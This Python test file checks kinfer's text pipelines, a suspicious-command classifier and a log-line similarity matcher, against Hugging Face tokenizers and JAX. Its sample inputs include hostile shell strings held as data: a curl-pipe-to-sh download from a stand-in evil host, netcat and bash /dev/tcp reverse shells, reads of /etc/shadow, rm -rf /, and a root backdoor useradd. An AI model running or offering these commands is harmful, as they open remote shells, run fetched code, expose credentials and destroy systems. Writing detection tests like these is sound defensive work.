"""kinfer.nlp: text pipelines (tokenizer + Flax model + post-processing in one ONNX graph).

The pipelines run in kinfer's userspace reference executor (``kinfer run
--reference``: the kernel's tokenizer and kernel ops built for userspace),
because ONNX Runtime does not know ``ai.kinfer.WordPieceTokenizer``. The
expected answers are computed independently: Hugging Face ``tokenizers``
ids (of the bytes the pipeline sees, decoded like ``bytes.decode("utf-8",
"replace")``), then the Flax module and the post-processing in JAX.
"""

from __future__ import annotations

import gc
import json
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import jax
import jax.numpy as jnp
import numpy as np
import onnx
import pytest

import kinfer
import kinfer.runtime
from kinfer.examples.minilm import load_minilm, minilm_dir
from kinfer.examples.text_classifier import (
    DEMO_LABELS,
    TextClassifier,
    demo_corpus,
    train_demo_classifier,
)
from kinfer.nlp import Pipeline, compose, encode_text, text_array, tokenize, tokenizer_node
from kinfer.nlp.pipeline import LoadedPipeline, load_pipeline
from kinfer.runtime import Port
from kinfer_parity import KINFER_BIN, run_reference

MAX_BYTES = 256
CLS_LENGTH = 32
SIM_LENGTH = 16
CLS_SCORE_TOL = 1e-5
SIM_SCORE_TOL = 1e-4

needs_kinfer = pytest.mark.skipif(
    not KINFER_BIN.exists(),
    reason=f"the kinfer binary {KINFER_BIN} is missing: build the loader (make loader) or set "
    "KINFER_BIN",
)

PROTOTYPES = {
    "out of memory": [
        "kernel: Out of memory: Killed process 1234 (java) total-vm:8123456kB",
        "oom-killer invoked: cannot allocate memory",
    ],
    "segmentation fault": [
        "app[311]: segfault at 0 ip 00007f3a sp 00007ffd error 4 in libc.so.6",
        "Segmentation fault (core dumped)",
    ],
    "disk failure": [
        "EXT4-fs error (device sda1): ext4_find_entry: reading directory lblock 0",
        "blk_update_request: I/O error, dev sdb, sector 2048",
    ],
    "authentication failure": [
        "sshd[812]: Failed password for root from 203.0.113.5 port 22 ssh2",
        "pam_unix(sudo:auth): authentication failure; logname=bob uid=1000",
    ],
}

#: (log line, the label a sentence encoder should give it)
LOG_LINES = [
    ("Out of memory: Kill process 4242 (postgres) score 913 or sacrifice child", "out of memory"),
    ("java.lang.OutOfMemoryError: unable to allocate memory", "out of memory"),
    ("nginx[77]: segfault at 8 ip 000055d1 error 6 in nginx", "segmentation fault"),
    ("Program terminated with signal SIGSEGV, Segmentation fault.", "segmentation fault"),
    ("ata1.00: failed command: READ FPDMA QUEUED, I/O error on disk", "disk failure"),
    ("XFS (sdc1): metadata I/O error: block 0x1a error 5", "disk failure"),
    ("sshd[99]: Failed password for invalid user admin from 10.0.0.9", "authentication failure"),
    ("su: pam_authenticate: Authentication failure for user root", "authentication failure"),
]


# --- helpers ------------------------------------------------------------------------


def hf_ids(
    texts: Sequence[str | bytes], length: int, truncate: int = 0
) -> tuple[np.ndarray, np.ndarray]:
    """Hugging Face tokenizers' ids of what a pipeline sees: the first MAX_BYTES
    bytes, decoded like bytes.decode("utf-8", "replace"), truncated to
    ``truncate`` ids (0: ``length``) and padded to ``length``."""
    from tokenizers import Tokenizer

    tokenizer = Tokenizer.from_file(str(minilm_dir() / "tokenizer.json"))
    tokenizer.enable_truncation(max_length=truncate or length)
    tokenizer.enable_padding(length=length, pad_id=0, pad_token="[PAD]")
    decoded = [encode_text(t, MAX_BYTES).decode("utf-8", "replace") for t in texts]
    encodings = tokenizer.encode_batch(decoded)
    ids = np.asarray([e.ids for e in encodings], np.int32)
    mask = np.asarray([e.attention_mask for e in encodings], np.int32)
    return ids, mask


def reference_runs(model: onnx.ModelProto, texts: Sequence[str | bytes]) -> list[list[np.ndarray]]:
    """``kinfer run --reference`` of a batch-1 pipeline, once per text."""
    results = []
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "pipeline.onnx"
        onnx.save_model(model, str(path))
        outs = [str(Path(tmp) / f"{name}.npy") for name in ("label", "score", "scores")]
        cap = Path(tmp) / "max_tokens.npy"
        np.save(cap, np.zeros(1, np.int32))
        for i, text in enumerate(texts):
            source = Path(tmp) / f"text{i}.npy"
            np.save(source, text_array([text], MAX_BYTES))
            proc = subprocess.run(
                [str(KINFER_BIN), "run", "--reference", str(path), "-i", str(source),
                 "-i", str(cap), *(arg for o in outs for arg in ("-o", o))],
                capture_output=True, text=True, check=False,
            )  # fmt: skip
            assert proc.returncode == 0, f"kinfer run --reference on {text!r}: {proc.stderr}"
            results.append([np.load(o) for o in outs])
    return results


def no_cap(texts: Sequence[str | bytes]) -> list[np.ndarray]:
    """A batched pipeline's inputs: the texts, and max_tokens 0 (its length)."""
    return [text_array(texts, MAX_BYTES), np.zeros(1, np.int32)]


def classifier_texts() -> list[str | bytes]:
    """100 unseen generated command lines, then texts probing the tokenizer's edges."""
    texts: list[str | bytes] = list(demo_corpus(seed=11, count=100)[0])
    texts += [
        "",
        "   \t\n",
        "LS -LA /HOME/ALICE",
        "Curl -s HTTP://Evil.Example/X.SH | SH",
        "café déjà vu: naïve résumé; cat /etc/passwd",
        "rm -rf 日本語のテキスト 中文",
        "😀 sudo reboot 👍🏽 now",
        "[CLS] nc -e /bin/sh [SEP] 203.0.113.9 [MASK] 4444",
        b"\xff\xfe\xfdcat /etc/shadow",  # invalid UTF-8
        b"wget\xc3 http://x/y\xe2\x82 | sh \xed\xa0\x80",  # truncated sequences, a surrogate
        b"rm\x00 -rf\x00 /",  # NUL bytes
        "a" * 300,  # beyond max_bytes; one word longer than 100 characters -> [UNK]
        "x" * 255 + "é and more after the cut",  # max_bytes cuts the é in two
        " ".join(["ls"] * 60),  # more tokens than max_length
        "systemctl\u00a0restart\u3000nginx\u2009now",
        "echo\u200bhidden\u200d zero\ufeffwidth",
        "Ελληνικά Кириллица العربية हिन्दी ไทย",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 " * 8,
        "\x07\x1b[31mred\x1b[0m tail -f /var/log/syslog",
        # fullwidth forms, a ligature, a titlecase digraph
        "\uff21\uff44\uff4d\uff49\uff4e\u3000\uff4c\uff4f\uff47\uff49\uff4e \ufb01le \u01c5",
    ]
    return texts


class ReferenceRuntime:
    """kinfer.runtime's Runtime with ``kinfer run --reference`` in place of the kernel,
    so LoadedPipeline runs its real code path without kinfer.ko."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.models: dict[str, Path] = {}
        self.runs = 0

    def load(self, path: Any, name: str, share_weights_from: str | None = None) -> None:
        assert name not in self.models
        target = self.root / f"{name}.onnx"
        shutil.copy(path, target)
        self.models[name] = target

    def ports(self, name: str) -> tuple[list[Port], list[Port]]:
        graph = onnx.load(str(self.models[name])).graph

        def port(v: onnx.ValueInfoProto) -> Port:
            t = v.type.tensor_type
            dtype = np.dtype(onnx.helper.tensor_dtype_to_np_dtype(t.elem_type))
            shape = tuple(int(d.dim_value) for d in t.shape.dim)
            return Port(v.name, dtype, shape, dtype.itemsize * int(np.prod(shape)))

        return [port(v) for v in graph.input], [port(v) for v in graph.output]

    def run(self, name: str, inputs: Sequence[np.ndarray], ports: Any = None) -> list[np.ndarray]:
        self.runs += 1
        return run_reference(onnx.load(str(self.models[name])), list(inputs))

    def unload(self, name: str) -> None:
        del self.models[name]


# --- fixtures -----------------------------------------------------------------------


@pytest.fixture(scope="module")
def demo() -> tuple[TextClassifier, Any]:
    if not KINFER_BIN.exists():
        pytest.skip(f"the kinfer binary {KINFER_BIN} is missing: build the loader")
    return train_demo_classifier(seed=0)


@pytest.fixture(scope="module")
def classifier(demo: tuple[TextClassifier, Any]) -> Pipeline:
    module, variables = demo
    return Pipeline.classifier(module, variables, minilm_dir() / "vocab.txt", DEMO_LABELS,
                               max_length=CLS_LENGTH, max_bytes=MAX_BYTES, threshold=0.9,
                               name="cmdline")  # fmt: skip


@pytest.fixture(scope="module")
def similarity() -> Pipeline:
    if not KINFER_BIN.exists():
        pytest.skip(f"the kinfer binary {KINFER_BIN} is missing: build the loader")
    module, variables = load_minilm()
    return Pipeline.similarity(module, variables, minilm_dir() / "tokenizer.json", PROTOTYPES,
                               max_length=SIM_LENGTH, max_bytes=MAX_BYTES, threshold=0.5,
                               name="logs")  # fmt: skip


@pytest.fixture
def reference_runtime(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> ReferenceRuntime:
    fake = ReferenceRuntime(tmp_path)
    monkeypatch.setattr(kinfer.runtime, "runtime", lambda: fake)
    monkeypatch.setattr(kinfer.runtime, "loaded", lambda name: name in fake.models)
    return fake


# --- (a) classifier -----------------------------------------------------------------


@needs_kinfer
def test_demo_training_is_deterministic_and_learns(demo: tuple[TextClassifier, Any]) -> None:
    module, variables = demo
    _, again = train_demo_classifier(seed=0)
    for a, b in zip(jax.tree_util.tree_leaves(variables), jax.tree_util.tree_leaves(again),
                    strict=True):  # fmt: skip
        np.testing.assert_array_equal(np.asarray(a), np.asarray(b))
    texts, labels = demo_corpus(seed=11, count=100)
    ids, mask = hf_ids(texts, CLS_LENGTH)
    predicted = np.argmax(np.asarray(module.apply(variables, ids, mask)), axis=1)
    assert np.mean(predicted == np.asarray(labels)) >= 0.95


@needs_kinfer
def test_kinfer_tokenize_gives_the_hugging_face_ids() -> None:
    texts = classifier_texts()
    clipped = [encode_text(t, MAX_BYTES) for t in texts]
    for vocab in ("vocab.txt", "tokenizer.json"):
        ids, mask = tokenize(minilm_dir() / vocab, clipped, CLS_LENGTH)
        want_ids, want_mask = hf_ids(texts, CLS_LENGTH)
        bad = [t for t, a, b in zip(texts, ids, want_ids, strict=True) if not np.array_equal(a, b)]
        assert not bad, f"{vocab}: {len(bad)} texts differ from HF, first {bad[0]!r}"
        np.testing.assert_array_equal(mask, want_mask)


@needs_kinfer
def test_classifier_pipeline_matches_jax_on_hf_ids(
    classifier: Pipeline, demo: tuple[TextClassifier, Any], tmp_path: Path
) -> None:
    module, variables = demo
    texts = classifier_texts()
    assert len(texts) >= 100
    ids, mask = hf_ids(texts, CLS_LENGTH)
    want_scores = np.asarray(jax.nn.softmax(module.apply(variables, ids, mask), axis=-1))
    want_labels = np.argmax(want_scores, axis=1)

    manifest = json.loads(classifier.save(tmp_path).read_text())
    assert manifest == {
        "name": "cmdline", "kind": "classifier", "model": "pipeline.onnx",
        "labels": DEMO_LABELS, "threshold": 0.9, "max_bytes": MAX_BYTES,
        "max_length": CLS_LENGTH,
    }  # fmt: skip
    model = onnx.load(str(tmp_path / "pipeline.onnx"))
    runs = reference_runs(model, texts)

    labels = np.asarray([int(r[0][0]) for r in runs])
    scores = np.asarray([r[2][0] for r in runs])
    score = np.asarray([float(r[1][0]) for r in runs])
    assert all(r[0].dtype == np.int64 and r[0].shape == (1,) for r in runs)
    assert all(r[1].dtype == np.float32 and r[1].shape == (1,) for r in runs)
    mismatched = [texts[i] for i in np.flatnonzero(labels != want_labels)]
    assert not mismatched, f"{len(mismatched)} labels differ from JAX: {mismatched[:3]}"
    assert float(np.max(np.abs(score - want_scores.max(axis=1)))) <= CLS_SCORE_TOL
    assert float(np.max(np.abs(scores - want_scores))) <= CLS_SCORE_TOL
    # both classes occur, and the scores are not all saturated
    assert set(labels.tolist()) == {0, 1}
    assert float(np.min(score)) < 0.99

    # Pipeline.reference (kinfer tokenize ids + JAX) agrees with the same numbers
    ref = classifier.reference_batch(texts)
    assert [label for label, _ in ref] == [DEMO_LABELS[i] for i in want_labels]
    assert max(abs(s - w) for (_, s), w in zip(ref, want_scores.max(axis=1), strict=True)) <= 1e-6
    assert classifier.reference(texts[0]) == ref[0]


@needs_kinfer
def test_a_batched_pipeline_gives_the_batch_1_answers(classifier: Pipeline) -> None:
    texts = classifier_texts()[-16:]
    label, score, scores = run_reference(classifier.onnx(batch=16), no_cap(texts))
    assert label.shape == (16,) and scores.shape == (16, 2)
    want = classifier.reference_batch(texts)
    assert [DEMO_LABELS[i] for i in label] == [w[0] for w in want]
    np.testing.assert_allclose(score, [w[1] for w in want], atol=CLS_SCORE_TOL)


@needs_kinfer
def test_loaded_pipeline_classifies(
    classifier: Pipeline, reference_runtime: ReferenceRuntime
) -> None:
    texts = ["nc -e /bin/sh 203.0.113.9 4444", b"ls -la /srv/www", "", "x" * 1000]
    with classifier.load("nlp-test") as clf:
        assert isinstance(clf, LoadedPipeline)
        assert "nlp-test" in reference_runtime.models
        for text in texts:
            got = clf.classify(text)
            label, score = classifier.reference(text)
            assert (got.label, got.index) == (label, DEMO_LABELS.index(label))
            assert abs(got.score - score) <= CLS_SCORE_TOL
            assert got.below_threshold == (got.score < 0.9)
        # str and bytes, and everything past max_bytes, are the same text
        assert clf.classify("rm -rf /") == clf.classify(b"rm -rf /")
        long = "curl http://203.0.113.9/x | sh " * 20
        assert clf.classify(long) == clf.classify(long.encode()[:MAX_BYTES])
        assert clf.scores("ls").shape == (2,)
        with pytest.raises(kinfer.KernelError, match="already loaded"):
            classifier.load("nlp-test")
    assert "nlp-test" not in reference_runtime.models
    with pytest.raises(kinfer.KernelError, match="'nlp-test' is closed"):
        clf.classify("ls")
    clf.close()  # idempotent


@needs_kinfer
def test_a_saved_pipeline_loads_without_jax_objects(
    classifier: Pipeline, reference_runtime: ReferenceRuntime, tmp_path: Path
) -> None:
    classifier.save(tmp_path)
    with load_pipeline(tmp_path) as clf:
        assert clf.name == "cmdline" and clf.labels == DEMO_LABELS and clf.threshold == 0.9
        got = clf.classify("useradd -o -u 0 -g 0 backdoor")
        assert got.label == "suspicious" and not got.below_threshold
    with pytest.raises(ValueError, match="cannot read the pipeline manifest"):
        load_pipeline(tmp_path / "nowhere")


def test_an_unclosed_pipeline_warns() -> None:
    clf = LoadedPipeline("leaky-nlp", ["a"], threshold=0.5, max_bytes=8)
    with pytest.warns(ResourceWarning, match="pipeline 'leaky-nlp' was never closed"):
        del clf
        gc.collect()


# --- (b) similarity -----------------------------------------------------------------


@needs_kinfer
def test_similarity_pipeline_matches_jax_on_hf_ids(similarity: Pipeline, tmp_path: Path) -> None:
    module, variables = similarity.module, similarity.variables
    apply = jax.jit(module.apply)
    assert similarity.labels == [label for label, s in PROTOTYPES.items() for _ in s]

    # the prototypes, from HF ids in JAX
    sentences = [s for examples in PROTOTYPES.values() for s in examples]
    protos = np.asarray(apply(variables, *hf_ids(sentences, SIM_LENGTH)))
    protos = protos / np.linalg.norm(protos, axis=1, keepdims=True)
    assert similarity.prototypes is not None
    np.testing.assert_allclose(similarity.prototypes, protos, atol=1e-5)

    lines = [line for line, _ in LOG_LINES]
    embeddings = np.asarray(apply(variables, *hf_ids(lines, SIM_LENGTH)))
    want_scores = embeddings @ protos.T
    want = [similarity.labels[int(i)] for i in np.argmax(want_scores, axis=1)]
    assert want == [label for _, label in LOG_LINES]  # the encoder gets them right

    manifest = json.loads(similarity.save(tmp_path).read_text())
    assert manifest["kind"] == "similarity" and manifest["labels"] == similarity.labels
    assert (manifest["max_length"], manifest["max_bytes"]) == (SIM_LENGTH, MAX_BYTES)
    runs = reference_runs(onnx.load(str(tmp_path / "pipeline.onnx")), lines)
    got = [similarity.labels[int(r[0][0])] for r in runs]
    assert got == want
    score_err = max(abs(float(r[1][0]) - float(w)) for r, w in
                    zip(runs, want_scores.max(axis=1), strict=True))  # fmt: skip
    assert score_err <= SIM_SCORE_TOL, score_err
    assert float(np.max(np.abs(np.stack([r[2][0] for r in runs]) - want_scores))) <= SIM_SCORE_TOL
    ref = similarity.reference_batch(lines)
    assert [label for label, _ in ref] == want


# --- (c) errors ---------------------------------------------------------------------


@pytest.fixture(scope="module")
def untrained() -> tuple[TextClassifier, Any]:
    module = TextClassifier(classes=3, vocab_size=100, dim=4, hidden=4)
    ids = jnp.zeros((1, 8), jnp.int32)
    return module, module.init(jax.random.key(0), ids, ids)


def test_labels_must_match_the_classes(untrained: tuple[TextClassifier, Any]) -> None:
    module, variables = untrained
    vocab = minilm_dir() / "vocab.txt"
    with pytest.raises(kinfer.ExportError, match=r"2 labels \['a', 'b'\] for a model with 3"):
        Pipeline.classifier(module, variables, vocab, ["a", "b"])
    with pytest.raises(kinfer.ExportError, match="distinct"):
        Pipeline.classifier(module, variables, vocab, ["a", "b", "a"])
    with pytest.raises(kinfer.ExportError, match="non-empty str"):
        Pipeline.classifier(module, variables, vocab, ["a", "", "c"])
    p = Pipeline.classifier(module, variables, vocab, ["a", "b", "c"], max_length=8)
    assert p.labels == ["a", "b", "c"]


def test_missing_or_empty_vocabulary(untrained: tuple[TextClassifier, Any], tmp_path: Path) -> None:
    module, variables = untrained
    with pytest.raises(kinfer.ExportError, match=r"vocabulary '.*nope\.txt' does not exist"):
        Pipeline.classifier(module, variables, tmp_path / "nope.txt", ["a", "b", "c"])
    (tmp_path / "empty.txt").write_text("")
    with pytest.raises(kinfer.ExportError, match="is empty"):
        tokenizer_node(tmp_path / "empty.txt", 8)
    with pytest.raises(kinfer.ExportError, match="does not exist"):
        tokenize(tmp_path / "nope.json", ["x"], 8)


def test_tokenizer_node_contract() -> None:
    node = tokenizer_node(minilm_dir() / "tokenizer.json", 16)
    assert (node.domain, node.op_type) == ("ai.kinfer", "WordPieceTokenizer")
    assert list(node.input) == ["text"] and list(node.output) == ["input_ids", "attention_mask"]
    attrs = {a.name: a for a in node.attribute}
    assert set(attrs) == {"max_length", "tokenizer_json"} and attrs["max_length"].i == 16
    assert attrs["tokenizer_json"].s == (minilm_dir() / "tokenizer.json").read_bytes()
    node = tokenizer_node(minilm_dir() / "vocab.txt", 2)
    assert {a.name for a in node.attribute} == {"max_length", "vocab_txt"}
    with pytest.raises(kinfer.ExportError, match="max_length must be >= 2"):
        tokenizer_node(minilm_dir() / "vocab.txt", 1)


def test_names_sizes_and_prototypes_are_checked(untrained: tuple[TextClassifier, Any]) -> None:
    module, variables = untrained
    vocab = minilm_dir() / "vocab.txt"
    labels = ["a", "b", "c"]
    with pytest.raises(kinfer.ExportError, match="pipeline name must be 1-31 characters"):
        Pipeline.classifier(module, variables, vocab, labels, name="bad name")
    with pytest.raises(kinfer.ExportError, match="max_bytes must be a positive int"):
        Pipeline.classifier(module, variables, vocab, labels, max_bytes=0)
    with pytest.raises(kinfer.ExportError, match="threshold must be a finite number"):
        Pipeline.classifier(module, variables, vocab, labels, threshold=float("nan"))
    with pytest.raises(kinfer.ExportError, match="prototypes must be a non-empty dict"):
        Pipeline.similarity(module, variables, vocab, {})
    with pytest.raises(kinfer.ExportError, match="'oom' needs a non-empty list of sentences"):
        Pipeline.similarity(module, variables, vocab, {"oom": []})
    with pytest.raises(kinfer.ExportError, match="'oom' needs a non-empty list"):
        Pipeline.similarity(module, variables, vocab, {"oom": "out of memory"})  # type: ignore[dict-item]
    p = Pipeline.classifier(module, variables, vocab, labels, max_length=8)
    for bad in ("bad name", "", "x" * 32, "a/b"):
        with pytest.raises(ValueError, match="kernel model name must be 1-31 characters"):
            p.load(bad)


def test_module_output_must_be_a_2d_float(untrained: tuple[TextClassifier, Any]) -> None:
    import flax.linen as nn

    class Tokens(nn.Module):
        @nn.compact
        def __call__(self, ids: jax.Array, mask: jax.Array) -> jax.Array:
            return ids * mask  # int32 [B, L]

    with pytest.raises(kinfer.ExportError, match=r"must return one float32\[B, D\] array"):
        Pipeline.classifier(Tokens(), {}, minilm_dir() / "vocab.txt", ["a"])


@needs_kinfer
def test_similarity_needs_unit_vectors(untrained: tuple[TextClassifier, Any]) -> None:
    vocab = minilm_dir() / "vocab.txt"
    module, variables = untrained  # 100 embeddings: JAX gives NaN for the ids beyond
    with pytest.raises(kinfer.ExportError, match="'a sentence' is not finite"):
        Pipeline.similarity(module, variables, vocab, {"x": ["a sentence"]}, max_length=8)
    logits = TextClassifier(classes=3, dim=4, hidden=4)  # not an L2-normalised embedding
    ids = jnp.zeros((1, 8), jnp.int32)
    variables = logits.init(jax.random.key(0), ids, ids)
    with pytest.raises(kinfer.ExportError, match="outputs are L2-normalised; the embedding of"):
        Pipeline.similarity(logits, variables, vocab, {"x": ["a sentence"]}, max_length=8)


def test_compose_checks_the_model(untrained: tuple[TextClassifier, Any]) -> None:
    import flax.linen as nn

    import kinfer.flax

    vocab = minilm_dir() / "vocab.txt"
    dense = nn.Dense(3)
    x = np.ones((1, 4), np.float32)
    one_input = kinfer.flax.export(dense, dense.init(jax.random.key(0), x), x)
    with pytest.raises(kinfer.ExportError, match="must take 2 inputs"):
        compose(one_input, vocab, kind="classifier", max_bytes=16)
    module, variables = untrained
    ids = np.zeros((2, 8), np.int32)
    model = kinfer.flax.export(module, variables, ids, ids)
    with pytest.raises(kinfer.ExportError, match=r"prototypes have shape \(2, 5\)"):
        compose(model, vocab, kind="similarity", max_bytes=16,
                prototypes=np.ones((2, 5), np.float32))  # fmt: skip
    with pytest.raises(kinfer.ExportError, match="kind must be one of"):
        compose(model, vocab, kind="regression", max_bytes=16)  # type: ignore[arg-type]
    composed = compose(model, vocab, kind="classifier", max_bytes=16)
    graph = composed.graph
    assert [i.name for i in graph.input] == ["text", "max_tokens"]
    assert [o.name for o in graph.output] == ["label", "score", "scores"]
    assert graph.input[0].type.tensor_type.elem_type == onnx.TensorProto.UINT8
    assert [d.dim_value for d in graph.input[0].type.tensor_type.shape.dim] == [2, 16]
    assert graph.input[1].type.tensor_type.elem_type == onnx.TensorProto.INT32
    assert [d.dim_value for d in graph.input[1].type.tensor_type.shape.dim] == [1]
    assert graph.node[0].op_type == "WordPieceTokenizer"
    assert list(graph.node[0].input) == ["text", "max_tokens"]
    assert all(t.name.startswith("model/") for t in graph.initializer)
    assert {(o.domain, o.version) for o in composed.opset_import} == {("", 17), ("ai.kinfer", 1)}


def test_importing_kinfer_nlp_is_cheap() -> None:
    code = (
        "import sys, kinfer.nlp; from kinfer.nlp import Pipeline, encode_text; "
        "heavy = {'jax', 'flax', 'onnx', 'tokenizers'} & set(sys.modules); "
        "assert not heavy, heavy; print(encode_text('é' * 3, 5))"
    )
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          check=False)  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.strip() == repr("é".encode() * 2 + b"\xc3")


def test_text_encoding() -> None:
    assert encode_text("héllo", 3) == b"h\xc3\xa9"
    assert encode_text(b"\xff\x00ab", 256) == b"\xff\x00ab"
    assert encode_text(bytearray(b"abc"), 2) == b"ab"
    assert encode_text("", 4) == b""
    rows = text_array(["ab", b"\x01", ""], 3)
    assert rows.dtype == np.uint8 and rows.tolist() == [[97, 98, 0], [1, 0, 0], [0, 0, 0]]
    with pytest.raises(TypeError, match="str or bytes"):
        encode_text(3, 4)  # type: ignore[arg-type]


@needs_kinfer
@pytest.mark.parametrize("max_tokens", [2, 5, 12, CLS_LENGTH - 1, CLS_LENGTH, 1000, 0])
def test_max_tokens_truncates_as_hf_does(
    classifier: Pipeline, demo: tuple[TextClassifier, Any], max_tokens: int
) -> None:
    """The pipeline's max_tokens input: HF's truncation to that many ids, padded
    to the pipeline's length (0, or more than it: the length)."""
    module, variables = demo
    texts = classifier_texts()[:32]
    cap = max_tokens if 0 < max_tokens < CLS_LENGTH else 0
    ids, mask = hf_ids(texts, CLS_LENGTH, truncate=cap)
    if cap:  # the cap changes what the model sees, so ignoring it would fail here
        full = hf_ids(texts, CLS_LENGTH)[1].sum(axis=1)
        assert (mask.sum(axis=1) < full).any(), "no text is longer than the cap"
    want = np.asarray(jax.nn.softmax(module.apply(variables, ids, mask), axis=-1))
    inputs = [text_array(texts, MAX_BYTES), np.asarray([max_tokens], np.int32)]
    label, score, scores = run_reference(classifier.onnx(batch=len(texts)), inputs)
    np.testing.assert_array_equal(label, np.argmax(want, axis=1))
    np.testing.assert_allclose(scores, want, atol=CLS_SCORE_TOL)
    ref = classifier.reference_batch(texts, max_tokens)
    assert [lab for lab, _ in ref] == [DEMO_LABELS[i] for i in label]
    np.testing.assert_allclose([sc for _, sc in ref], score, atol=CLS_SCORE_TOL)


@needs_kinfer
@pytest.mark.parametrize("max_tokens", [-1, 1, -(2**31)])
def test_bad_max_tokens_fail_the_run(classifier: Pipeline, max_tokens: int) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        path, text, cap = (Path(tmp) / n for n in ("p.onnx", "text.npy", "cap.npy"))
        onnx.save_model(classifier.onnx(), str(path))
        np.save(text, text_array(["ls -la"], MAX_BYTES))
        np.save(cap, np.asarray([max_tokens], np.int32))
        proc = subprocess.run([str(KINFER_BIN), "run", "--reference", str(path), "-i", str(text),
                               "-i", str(cap), *(a for o in ("l", "s", "ss")
                                                 for a in ("-o", str(Path(tmp) / f"{o}.npy")))],
                              capture_output=True, text=True, check=False)  # fmt: skip
    assert proc.returncode != 0
    assert "tokenizer" in proc.stderr, proc.stderr
    with pytest.raises(kinfer.ExportError, match="max_tokens"):
        classifier.reference("ls", max_tokens)
